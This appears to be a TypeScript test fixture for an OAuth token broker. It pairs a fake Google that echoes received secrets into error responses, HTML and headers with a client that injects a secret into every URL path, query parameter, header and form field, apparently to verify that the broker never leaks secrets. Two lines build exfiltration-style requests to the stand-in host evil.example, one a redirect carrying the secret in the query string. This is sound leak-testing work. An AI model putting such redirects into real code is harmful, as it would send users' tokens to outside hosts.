/** This file is a Google that says again whatever it was told, and a client that puts secrets wherever there is room for text. */

import { ask, broker, the } from './broker.ts'
import type { Browser } from './browser.ts'
import { gallery } from './frontend.ts'
import { askMedia } from './media.ts'

/** Everything Google was sent, said again in an error, a failing connection, a page. */
export const SABOTAGE: ((sent: string) => Response)[] = [
  (sent) => Response.json({ error: 'invalid_grant', error_description: sent }, { status: 400 }),
  (sent) => Response.json({ error: 'invalid_client', error_description: sent }, { status: 401 }),
  (sent) => Response.json({ error: sent, error_uri: sent }, { status: 400 }),
  (sent) => new Response(`<h1>${sent}</h1>`, { status: 500, headers: { 'X-Debug': 'canary' } }),
  (sent) => Response.json({ access_token: 7, token_type: sent, scope: sent, expires_in: sent }),
  (sent) => Response.redirect(`https://evil.example/?${encodeURIComponent(sent)}`),
  (sent) => {
    throw new TypeError(`could not send ${sent}`, { cause: new Error(sent) })
  },
]

/** Puts a secret wherever a request has room for text. */
export async function everywhere(secret: string, browser: Browser): Promise<void> {
  const text = encodeURIComponent(secret)
  const page = { headers: { Accept: 'text/html' } }
  for (const path of [
    `/${text}`,
    `/grants/${text}`,
    `/media/${text}`,
    `/connect?bundle=${text}&return_to=/app`,
    `/connect?bundle=pick&return_to=${text}`,
    `/connect?bundle=pick&return_to=/app&client=${text}`,
    `/authorize?client_id=${text}`,
    `/authorize?client_id=gallery&request_uri=${text}`,
    `/callback?state=${text}&code=${text}`,
    `/callback?error=${text}&error_description=${text}`,
    `/session?access_token=${text}`,
  ]) {
    await browser.fetch(the.url + path)
    await browser.fetch(the.url + path, page)
    await browser.call('DELETE', the.url + path)
  }
  await ask(browser, { bundle: secret })
  await ask(browser, { bundle: 'pick', rejected: secret })
  await ask(browser, { [secret]: secret })
  await askMedia(browser, [`https://evil.example/${text}`, secret])
  await ask(browser, undefined, { Authorization: `Bearer ${secret}` })
  await browser.call('POST', `${the.url}/session/token`, { bundle: 'pick' }, { Origin: secret })
  for (const fields of [
    { grant_type: secret },
    { grant_type: 'refresh_token', client_id: 'gallery', refresh_token: secret, scope: secret },
    { grant_type: 'authorization_code', client_id: secret, code: secret, code_verifier: secret },
  ]) {
    const headers = { Origin: gallery.origin, DPoP: secret, Authorization: `DPoP ${secret}` }
    const body = new URLSearchParams(fields)
    for (const path of ['/token', '/par', '/revoke'])
      await broker(new Request(the.url + path, { method: 'POST', headers, body }))
  }
  const headers = { Origin: gallery.origin, DPoP: secret, Authorization: `Bearer ${secret}` }
  await broker(new Request(`${the.url}/session`, { headers }))
}
